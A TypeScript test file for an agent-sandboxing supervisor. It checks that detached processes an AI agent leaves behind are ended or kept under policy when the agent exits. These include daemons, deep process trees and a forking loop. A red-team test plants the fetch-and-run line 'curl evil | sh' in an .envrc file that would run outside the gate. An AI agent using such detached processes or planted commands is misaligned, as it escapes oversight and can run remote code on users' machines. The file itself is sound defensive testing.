// Leftovers (issue 13, item 7): when the agent exits, every process of its session ends with it — a
// setsid'd, double-forked grandchild, a daemon, a stopped process, a deep tree, a process forking as fast
// as it can — and the end record says how many. [session] keep_leftovers (or --keep-leftovers) keeps them,
// and then they can exec nothing. Real CLI, supervisor and kernel; the processes are found by a unique
// token in their command line, so a reused pid is never mistaken for one of them.
import { spawn } from 'node:child_process';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { denyCurlPolicy, makeDirs, prepare, runCli, type CliRun } from './gate-progs/cli';
import { liveWithToken } from './helpers/procs';

let dirs: ReturnType<typeof makeDirs>;
let n = 0;
const strays: number[] = [];

beforeAll(async () => {
  await prepare();
  dirs = makeDirs('left');
});
afterAll(() => {
  for (const pid of strays) {
    try {
      process.kill(pid, 'SIGKILL');
    } catch {
      // gone
    }
  }
  dirs?.cleanup();
});

function workspace(extraPolicy = ''): { ws: string; policy: string } {
  const ws = path.join(dirs.root, `ws-${++n}`);
  fs.mkdirSync(ws);
  const policy = path.join(ws, '.gate.toml');
  fs.writeFileSync(policy, denyCurlPolicy() + extraPolicy);
  return { ws, policy };
}

function gated(w: { ws: string; policy: string }, script: string, extra: string[] = []): Promise<CliRun> {
  return runCli(['bash', '-c', script], { policy: w.policy, audit: dirs.audit(`left-${++n}`), cwd: w.ws, extra });
}

const token = (): string => `agent-gate-leftover-${process.pid}-${++n}-${Date.now()}`;

describe('gate: the session\'s processes end with the agent', () => {
  it('control: without the gate, a setsid\'d double-forked grandchild outlives the program that started it', async () => {
    const t2 = token();
    await new Promise<void>((resolve) => spawn('bash', ['-c', `(setsid bash -c 'sleep 300; : ${t2}' &) ; exit 0`], { stdio: 'ignore' }).on('close', () => resolve()));
    await new Promise((r) => setTimeout(r, 200));
    const alive = liveWithToken(t2);
    strays.push(...alive);
    expect(alive.length).toBeGreaterThan(0);
    for (const pid of alive) process.kill(pid, 'SIGKILL');
  });

  it('a setsid\'d double-forked grandchild is ended, and the end record counts it', async () => {
    const w = workspace();
    const t = token();
    const r = await gated(w, `(setsid bash -c 'sleep 300; : ${t}' &); sleep 0.2; echo started`);
    expect(r.stdout).toContain('started');
    expect(r.code).toBe(0);
    expect(liveWithToken(t)).toEqual([]);
    // The detached shell and its sleep: every process is counted.
    expect(r.end?.leftovers).toMatchObject({ ended: 2 });
    expect((r.end?.leftovers as { names: string[] }).names).toEqual(['bash', 'sleep']);
    expect(r.stderr).toMatch(/ended 2 processes the agent left running \(bash, sleep\)/);
  });

  it('a daemon (double fork, setsid, chdir /, stdio closed, SIGTERM and SIGHUP ignored) is ended', async () => {
    const w = workspace();
    const t = token();
    const daemon = `import os, signal, time
if os.fork(): os._exit(0)
os.setsid()
if os.fork(): os._exit(0)
os.chdir('/')
for fd in (0, 1, 2): os.close(fd)
signal.signal(signal.SIGTERM, signal.SIG_IGN)
signal.signal(signal.SIGHUP, signal.SIG_IGN)
while True: time.sleep(1)
# ${t}`;
    fs.writeFileSync(path.join(w.ws, 'daemon.py'), daemon);
    const r = await gated(w, `python3 ${path.join(w.ws, 'daemon.py')} ${t}; sleep 0.3; echo daemonized`);
    expect(r.stdout).toContain('daemonized');
    expect(liveWithToken(t)).toEqual([]);
    expect(r.end?.leftovers).toMatchObject({ ended: 1 });
  });

  it('a stopped process, a deep tree and a process forking as fast as it can are all ended', async () => {
    const w = workspace();
    const t = token();
    const script = [
      // stopped
      `(setsid bash -c 'kill -STOP $$; : ${t}-stopped' &)`,
      // a chain of 6 nested shells, each detached
      `(setsid bash -c "bash -c \\"bash -c 'bash -c \\\\\\"sleep 300; : ${t}-deep\\\\\\"' & wait\\" & wait" &)`,
      // forks continuously
      `(setsid bash -c 'while :; do (: ${t}-fork) & done' &)`,
      'sleep 0.5; echo spawned',
    ].join('; ');
    const r = await gated(w, script);
    expect(r.stdout).toContain('spawned');
    await new Promise((res) => setTimeout(res, 200));
    expect(liveWithToken(t)).toEqual([]);
    const left = r.end?.leftovers as { ended: number; remaining?: number };
    expect(left.ended).toBeGreaterThanOrEqual(3);
    expect(left.remaining).toBeUndefined();
  });

  it('nothing left: the end record says 0 and nothing is printed', async () => {
    const w = workspace();
    const r = await gated(w, 'echo quiet');
    expect(r.end?.leftovers).toMatchObject({ ended: 0 });
    expect(r.stderr).not.toMatch(/left running/);
  });
});

describe('gate: keep_leftovers', () => {
  for (const how of ['--keep-leftovers', '[session] keep_leftovers = true'] as const) {
    it(`${how}: the daemon keeps running and the session with it — its programs still judged, the workspace files still put back after the agent exited — until it exits; counted in the end record (red-team R54)`, async () => {
      const w = how.startsWith('--') ? workspace() : workspace('\n[session]\nkeep_leftovers = true\n');
      const t = token();
      const log = path.join(w.ws, 'exec.log');
      const go = path.join(w.ws, 'go');
      const envrc = path.join(w.ws, '.envrc');
      // Every 100 ms the leftover tries to run a program (and curl, which the policy denies) and logs how that
      // went; when told (the file go), it writes .envrc (direnv runs it outside the gate) and stops when told
      // again (the file stop).
      const loop = `while [ ! -f stop ]; do if /usr/bin/true 2>/dev/null; then echo ran; else echo "failed $?"; fi >> ${log}; curl --version >/dev/null 2>&1 && echo curl-ran >> ${log}; if [ -f go ]; then rm -f go; echo "curl evil | sh" > .envrc; fi; sleep 0.1; : ${t}; done`;
      // (Its stdio away from the CLI's pipes, as a daemon's is.)
      const run = gated(w, `(setsid bash -c '${loop}' </dev/null >/dev/null 2>&1 &); until grep -qs ran ${log}; do sleep 0.05; done; echo started; touch agent-done`, how.startsWith('--') ? [how] : []);
      const until = async (what: string, cond: () => boolean, ms = 10_000): Promise<void> => {
        for (let i = 0; i < ms && !cond(); i += 20) await new Promise((r) => setTimeout(r, 20));
        if (!cond()) throw new Error(`timed out waiting for ${what}`);
      };
      await until('the agent to finish', () => fs.existsSync(path.join(w.ws, 'agent-done')));
      await new Promise((r) => setTimeout(r, 500)); // the agent has exited; the daemon goes on
      const alive = liveWithToken(t);
      strays.push(...alive);
      expect(alive.length).toBeGreaterThanOrEqual(1);
      const before = fs.readFileSync(log, 'utf8').split('\n').filter(Boolean).length;
      fs.writeFileSync(go, '');
      await until('the daemon to write .envrc', () => !fs.existsSync(go));
      await new Promise((r) => setTimeout(r, 500));
      // Put back by the guard, still on; the daemon's programs still run, judged (curl still refused).
      expect(fs.existsSync(envrc)).toBe(false);
      const after = fs.readFileSync(log, 'utf8').split('\n').filter(Boolean).slice(before);
      expect(after.length).toBeGreaterThan(2);
      expect(after.every((l) => l === 'ran')).toBe(true);
      // The session ends when the daemon does.
      fs.writeFileSync(path.join(w.ws, 'stop'), '');
      const r = await run;
      expect(r.stdout).toContain('started');
      expect(r.code).toBe(0);
      const kept = r.end?.leftovers as { kept: number; names: string[] };
      expect(kept.kept).toBeGreaterThanOrEqual(1);
      // The daemon first (the walk goes down from the supervisor), then whatever it ran at that moment.
      expect(kept.names[0]).toBe('bash');
      expect(r.stderr).toMatch(/the agent exited \(status 0\); \d+ process(es)? it started (is|are) kept \(keep_leftovers\): the session goes on/);
      expect(r.end?.protected_changes?.find((c) => c.path === envrc)).toMatchObject({ reverted: true });
      expect(r.decisions.filter((d) => d.rule_id === 'no-curl').every((d) => d.verdict === 'deny')).toBe(true);
      expect(r.decisions.filter((d) => d.rule_id === 'no-curl').length).toBeGreaterThan(5);
    });
  }

  it('a terminating signal to agent-gate ends the kept processes and the session', async () => {
    const w = workspace('\n[session]\nkeep_leftovers = true\n');
    const t = token();
    let cli = 0;
    const run = runCli(['bash', '-c', `(setsid bash -c 'while :; do sleep 0.1; : ${t}; done' </dev/null >/dev/null 2>&1 &); echo started; touch agent-done`], { policy: w.policy, audit: dirs.audit(`left-${++n}`), cwd: w.ws, onSpawn: (pid) => (cli = pid) });
    for (let i = 0; i < 200 && !fs.existsSync(path.join(w.ws, 'agent-done')); i++) await new Promise((r) => setTimeout(r, 50));
    await new Promise((r) => setTimeout(r, 500));
    strays.push(...liveWithToken(t));
    process.kill(cli, 'SIGTERM');
    const r = await run;
    expect(r.stdout).toContain('started');
    expect(liveWithToken(t)).toEqual([]);
    expect((r.end?.leftovers as { kept: number }).kept).toBeGreaterThanOrEqual(1);
  });
});
